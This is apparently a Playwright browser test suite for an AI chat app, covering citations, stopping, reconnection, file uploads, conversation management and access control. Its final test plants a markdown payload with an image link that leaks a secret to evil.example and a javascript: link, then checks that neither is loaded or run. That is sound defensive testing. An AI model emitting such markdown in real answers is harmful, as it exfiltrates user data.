"""Asking, reading, citing, stopping, trying again."""

import asyncio
import re

from playwright.async_api import Page, Route, expect

from tests.browser.conftest import MakePerson, OpenPage
from tests.browser.people import Person

REPLY_SECONDS = 90_000


async def ask(page: Page, question: str) -> None:
    await page.get_by_role("textbox", name="Message").fill(question)
    await page.keyboard.press("Enter")


async def test_an_answer_cites_the_passage_it_comes_from(open_page: OpenPage, person: Person) -> None:
    await person.add_handbook()
    assistant = await person.add_assistant("Policy Guide", knowledge=("handbook",))
    page = await open_page(f"/chat?assistant={assistant}")
    await ask(page, "How large is the travel budget?")
    await expect(page.get_by_role("button", name="Answer again")).to_be_visible(timeout=REPLY_SECONDS)
    answer = page.get_by_role("listitem").filter(has=page.get_by_role("heading", name="Policy Guide")).first
    await expect(answer).to_contain_text("4200 EUR")
    await expect(answer.get_by_text("Mock answer")).to_be_visible()
    await expect(answer.get_by_text("Used Knowledge search (handbook)")).to_be_visible()

    await answer.get_by_role("link", name=re.compile("^Source 1: handbook.md")).first.click()
    passage = page.get_by_role("complementary", name="Passage")
    await expect(passage).to_contain_text("handbook.md")
    await expect(passage.locator("mark")).to_contain_text("4200 EUR")

    await page.reload()
    await expect(page.get_by_role("complementary", name="Passage").locator("mark")).to_contain_text("4200 EUR")
    await page.get_by_role("button", name="Close").click()
    await expect(page.get_by_role("complementary", name="Passage")).to_be_hidden()

    await answer.get_by_role("link", name=re.compile("^Source 1: handbook.md")).first.click()
    await expect(page.get_by_role("complementary", name="Passage")).to_be_visible()
    await page.keyboard.press("Escape")
    await expect(page.get_by_role("complementary", name="Passage")).to_be_hidden()


async def test_a_stopped_answer_stays_and_can_be_given_again(open_page: OpenPage, person: Person) -> None:
    assistant = await person.add_assistant("Talker")
    page = await open_page(f"/chat?assistant={assistant}")
    await ask(page, "[mock:endless] Tell me more")
    await expect(page.get_by_text("And so on, And so on").first).to_be_visible(timeout=REPLY_SECONDS)
    await page.get_by_role("button", name="Stop").click()
    await expect(page.get_by_text("You stopped this answer.")).to_be_visible()
    await expect(page.get_by_role("button", name="Stop")).to_be_hidden()

    await page.reload()
    await expect(page.get_by_text("You stopped this answer.")).to_be_visible()
    await page.get_by_role("button", name="Edit message").click()
    await page.get_by_role("textbox", name="Edit message").fill("Say something short")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("group", name="Answer 2 of 2")).to_be_visible(timeout=REPLY_SECONDS)
    await page.get_by_role("button", name="Previous answer").click()
    await expect(page.get_by_text("You stopped this answer.")).to_be_visible()


async def test_an_answer_goes_on_through_a_reload_and_a_lost_connection(open_page: OpenPage, person: Person) -> None:
    assistant = await person.add_assistant("Talker")
    page = await open_page(f"/chat?assistant={assistant}")
    await ask(page, "[mock:endless] Tell me more")
    answer = page.get_by_role("listitem").filter(has=page.get_by_role("heading", name="Talker")).first
    await expect(page.get_by_text("And so on, And so on").first).to_be_visible(timeout=REPLY_SECONDS)

    await page.reload()
    await expect(page.get_by_role("button", name="Stop")).to_be_visible(timeout=REPLY_SECONDS)
    length = len(await answer.inner_text())
    await expect(answer).to_have_text(re.compile(f"[^$]{{{length + 200},}}"), timeout=REPLY_SECONDS)

    await page.context.set_offline(True)
    await page.context.set_offline(False)
    length = len(await answer.inner_text())
    await expect(answer).to_have_text(re.compile(f"[^$]{{{length + 200},}}"), timeout=REPLY_SECONDS)
    await page.get_by_role("button", name="Stop").click()
    await expect(page.get_by_text("You stopped this answer.")).to_be_visible()
    await page.reload()
    await expect(page.get_by_text("You stopped this answer.")).to_be_visible(timeout=REPLY_SECONDS)
    conversation = page.url.rsplit("/", 1)[1]
    history = (await person.client.get(f"/v1/conversations/{conversation}")).json()["history"]
    assert [item["status"] for item in history] == ["complete", "interrupted"]


async def test_a_failed_answer_says_why_and_can_be_tried_again(open_page: OpenPage, person: Person) -> None:
    assistant = await person.add_assistant("Talker")
    page = await open_page(f"/chat?assistant={assistant}")
    await ask(page, "[mock:401] Hello")
    problem = page.get_by_role("alert")
    await expect(problem).to_contain_text("The answer could not be completed", timeout=REPLY_SECONDS)
    await expect(problem.get_by_text(re.compile("^Request "))).to_be_visible()
    await problem.get_by_role("button", name="Try again").click()
    await expect(page.get_by_role("alert")).to_contain_text("The answer could not be completed", timeout=REPLY_SECONDS)


async def test_the_next_message_waits_for_the_running_answer(open_page: OpenPage, person: Person) -> None:
    assistant = await person.add_assistant("Talker")
    page = await open_page(f"/chat?assistant={assistant}")
    await ask(page, "[mock:slow] First")
    await expect(page.get_by_role("button", name="Stop")).to_be_visible()
    await ask(page, "Second question")
    await expect(page.get_by_role("list", name="Queued")).to_contain_text("Second question")
    await expect(page.get_by_role("list", name="Queued")).to_be_hidden(timeout=REPLY_SECONDS)
    await expect(page.get_by_role("heading", name="You")).to_have_count(2)
    await expect(page.get_by_role("button", name="Answer again")).to_have_count(2, timeout=REPLY_SECONDS)


async def test_files_go_along_with_a_message(open_page: OpenPage, person: Person) -> None:
    assistant = await person.add_assistant("Reader")
    page = await open_page(f"/chat?assistant={assistant}")
    await page.locator("input[type=file]").set_input_files(
        {"name": "notes.txt", "mimeType": "text/plain", "buffer": b"The code word is heron."}
    )
    await expect(page.get_by_role("button", name="Remove notes.txt")).to_be_visible()
    await ask(page, "What is in the file?")
    await expect(page.get_by_role("link", name="notes.txt")).to_be_visible(timeout=REPLY_SECONDS)
    await expect(page.get_by_role("button", name="Answer again")).to_be_visible(timeout=REPLY_SECONDS)


async def test_a_message_waits_for_its_files(open_page: OpenPage, person: Person) -> None:
    assistant = await person.add_assistant("Reader")
    page = await open_page(f"/chat?assistant={assistant}")
    released = asyncio.Event()

    async def hold(route: Route) -> None:
        await released.wait()
        await route.continue_()

    await page.route("**/v1/files/", hold)
    await page.locator("input[type=file]").set_input_files(
        {"name": "notes.txt", "mimeType": "text/plain", "buffer": b"The code word is heron."}
    )
    await ask(page, "What is in the file?")
    await expect(page.get_by_role("button", name="Sends as soon as the files are there")).to_be_disabled()
    released.set()
    await expect(page.get_by_role("link", name="notes.txt")).to_be_visible(timeout=REPLY_SECONDS)


async def test_conversations_are_renamed_pinned_and_deleted(open_page: OpenPage, person: Person) -> None:
    assistant = await person.add_assistant("Talker")
    page = await open_page(f"/chat?assistant={assistant}")
    await ask(page, "Good morning")
    await expect(page.get_by_role("button", name="Answer again")).to_be_visible(timeout=REPLY_SECONDS)
    await page.get_by_role("button", name="Conversation actions: Good morning").click()
    await page.get_by_role("menuitem", name="Rename").click()
    await page.get_by_role("textbox", name="Conversation name").fill("Greetings")
    await page.keyboard.press("Enter")
    await expect(page.get_by_role("link", name="Greetings")).to_be_visible()
    await page.get_by_role("button", name="Conversation actions: Greetings").click()
    await page.get_by_role("menuitem", name="Pin").click()
    await expect(page.get_by_role("region", name="Pinned")).to_contain_text("Greetings")
    await page.get_by_role("button", name="Conversation actions: Greetings").click()
    await page.get_by_role("menuitem", name="Delete").click()
    await page.get_by_role("button", name="Delete conversation").click()
    await expect(page.get_by_role("link", name="Greetings")).to_be_hidden()
    await page.wait_for_url("**/chat")


async def test_a_conversation_of_somebody_else_has_no_place_to_write(
    open_page: OpenPage, person: Person, make_person: MakePerson
) -> None:
    ada = await make_person("ada")
    assistant = await ada.add_assistant("Talker")
    body = {"text": "Good morning", "conversation_id": f"private-{assistant}"}
    assert (await ada.client.post(f"/v1/assistants/{assistant}/model", json=body)).status_code == 200

    page = await open_page(f"/chat/private-{assistant}")

    await expect(page.get_by_text("The conversation could not be opened")).to_be_visible()
    await expect(page.get_by_role("textbox", name="Message")).to_be_hidden()
    await expect(page.get_by_role("main")).not_to_contain_text("Good morning")


async def test_markdown_of_a_model_cannot_load_or_run_anything(open_page: OpenPage, person: Person) -> None:
    assistant = await person.add_assistant("Echo")
    page = await open_page(f"/chat?assistant={assistant}")
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    await ask(page, "Hello")
    await expect(page.get_by_role("button", name="Answer again")).to_be_visible(timeout=REPLY_SECONDS)
    conversation = page.url.rsplit("/", 1)[1]
    hostile = '![x](https://evil.example/?q=secret) <img src="https://evil.example/i"> [go](javascript:alert(1))'
    answer = await person.client.put(
        f"/v1/conversations/{conversation}/history/0", json={"messageIndex": 0, "message": hostile}
    )
    assert answer.status_code == 200, answer.text
    await page.reload()
    await expect(page.get_by_role("link", name="Image: x")).to_be_visible()
    await expect(page.get_by_text('<img src="https://evil.example/i">')).to_be_visible()
    assert await page.locator("a[href^='javascript']").count() == 0
    assert not [url for url in asked if "evil.example" in url]
